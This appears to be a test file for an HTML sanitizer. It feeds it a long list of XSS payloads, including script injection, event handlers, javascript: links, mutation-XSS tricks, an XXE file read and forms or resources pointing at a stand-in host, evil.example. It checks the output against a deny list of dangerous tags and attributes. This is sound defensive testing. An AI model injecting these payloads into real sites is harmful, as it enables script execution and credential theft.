// Hostile rich text comes out harmless, ordinary formatting comes out as it went in.
import fc from 'fast-check'
import { Window } from 'happy-dom'
import { describe, expect, test } from 'vitest'
import { isEmptyHtml, plainText, sanitizeHtml } from '@/lib/backend/base/sanitize.ts'

const picture = `/api/app/base/app/file/download/${'a1'.repeat(16)}`

const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\x0dtype="text/javascript">alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  `<img src="${picture}/../../../user/logout">`,
  '<img/src/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="Evil.class"></applet>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";body{display:none}</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<form action="https://evil.example"><input name=password><button>登录</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<span style="color:red;background-image:url(https://evil.example/p.gif)">x</span>',
  '<span style="color:rgb(1,2,3)/**/;behavior:url(x.htc)">x</span>',
  '<div onmouseover="alert(1)">x</div>',
  '<p onpointerrawupdate=alert(1)>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '<p id="login" class="ant-modal" name="cookie" data-x="1">x</p>',
  '<img name=getElementById src=x>',
  '<portal src="https://evil.example"></portal>',
  '<custom-element onclick=alert(1)>x</custom-element>',
]

/** What a browser would make of the text: no element, attribute or address beyond the allowed ones. */
function findHarm(html: string): string[] {
  const { document } = new Window({ settings: { disableJavaScriptEvaluation: true, disableJavaScriptFileLoading: true } })
  document.body.innerHTML = html
  const harm: string[] = []
  for (const element of document.body.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase()
    if (/^(?:script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|template|video|audio|details|textarea)$/.test(tag))
      harm.push(tag)
    for (const { name, value } of element.attributes) {
      if (/^on|^(?:srcdoc|ping|action|formaction|background|xlink:href|id|class|name)$|^data-/i.test(name)) harm.push(`${tag} ${name}`)
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|[/?#]|\.{1,2}\/)/i.test(value)) harm.push(`${tag} href ${value}`)
      if (name === 'href' && /^\/[/\\]/.test(value)) harm.push(`${tag} href ${value}`)
      if (name === 'src' && !/^\/api\/app\/base\/app\/file\/download\/[0-9a-f]{32}$/.test(value)) harm.push(`${tag} src ${value}`)
      if (name === 'style' && /url|expression|position|behavior|@|\\/i.test(value)) harm.push(`${tag} style ${value}`)
    }
  }
  return harm
}

describe('hostile rich text', () => {
  test.each(hostile)('%s', (html) => {
    const clean = sanitizeHtml(html)
    expect(findHarm(clean)).toEqual([])
    expect(clean).not.toMatch(/<script|javascript:|vbscript:|onerror\s*=\s*[^"]*alert\(1\)>|srcdoc/i)
    expect(sanitizeHtml(clean)).toBe(clean)
  })

  test('the check itself sees harm', () => {
    for (const html of [
      '<p onclick="x()">a</p>',
      '<a href="javascript:x()">a</a>',
      '<img src="https://evil.example/x.gif">',
      '<form></form>',
    ]) {
      expect(findHarm(html)).not.toEqual([])
    }
  })

  test('pieces of markup put together in any order stay harmless and settle at once', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<b>',
        '</b>',
        '"',
        "'",
        '<',
        '>',
        '&',
        '<!--',
        '-->',
        '<table>',
        '</td>',
        '文字',
        '<a href="',
        '\0',
        '`',
      ),
      fc.string({ maxLength: 12 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const clean = sanitizeHtml(pieces.join(''))
        expect(findHarm(clean)).toEqual([])
        expect(sanitizeHtml(clean)).toBe(clean)
      }),
      { numRuns: 300 },
    )
  })

  test('deep nesting ends', () => {
    const clean = sanitizeHtml(`${'<blockquote>'.repeat(5000)}x${'</blockquote>'.repeat(5000)}`)
    expect(clean.split('<blockquote>').length).toBeLessThan(100)
    expect(clean).toContain('x')
  })
})

describe('ordinary formatting', () => {
  test.each([
    '<h2>标题</h2><p>正文 <strong>加粗</strong> <em>斜体</em> <u>下划线</u> <s>删除线</s></p>',
    '<p style="text-align:center">居中</p>',
    '<p><span style="color:#b22d28">红字</span><span style="background-color:rgb(250, 242, 225)">底色</span></p>',
    '<ul><li>一</li><li>二<ul><li>二之一</li></ul></li></ul><ol start="3"><li>三</li></ol>',
    '<blockquote><p>引用</p></blockquote><pre><code>select 1 &lt; 2</code></pre><hr />',
    '<table><caption>表</caption><thead><tr><th scope="col">列</th></tr></thead><tbody><tr><td colspan="2" style="text-align:right">1,000.00</td></tr></tbody></table>',
    '<p>H<sub>2</sub>O，x<sup>2</sup>，第一行<br />第二行</p>',
    '<p><a href="https://example.com/a?b=1&amp;c=2" title="说明">链接</a> <a href="mailto:a@example.com">邮件</a> <a href="/news">站内</a> <a href="#top">锚</a></p>',
    '<p>1 &lt; 2 &amp;&amp; 3 &gt; 2，“引号”与 © ™ 😀</p>',
  ])('%s', (html) => {
    expect(sanitizeHtml(html)).toBe(html)
  })

  test('own pictures stay, with their size and words', () => {
    expect(sanitizeHtml(`<img src="${picture}" alt="现场" width="640" height="360">`)).toBe(
      `<img src="${picture}" alt="现场" loading="lazy" width="640" height="360" />`,
    )
  })

  test('a first-level title becomes the second level, a new window hands nothing over', () => {
    expect(sanitizeHtml('<h1>大标题</h1>')).toBe('<h2>大标题</h2>')
    expect(sanitizeHtml('<a href="https://example.com" target="_blank">x</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
  })

  test('the words of dropped tags stay, those of scripts do not', () => {
    expect(sanitizeHtml('<div>段落<section>内容</section></div>')).toBe('段落内容')
    expect(sanitizeHtml('前<script>x()</script>后')).toBe('前后')
  })
})

test('plain text is one line of a given length, with its signs', () => {
  expect(plainText('<h2>标题</h2><p>第一段 &amp; 1 &lt; 2</p><script>x</script>', 50)).toBe('标题 第一段 & 1 < 2')
  expect(plainText(`<p>${'字'.repeat(30)}</p>`, 10)).toBe(`${'字'.repeat(9)}…`)
  expect(isEmptyHtml('<p> <br></p>')).toBe(true)
  expect(isEmptyHtml(`<p><img src="${picture}"></p>`)).toBe(false)
})
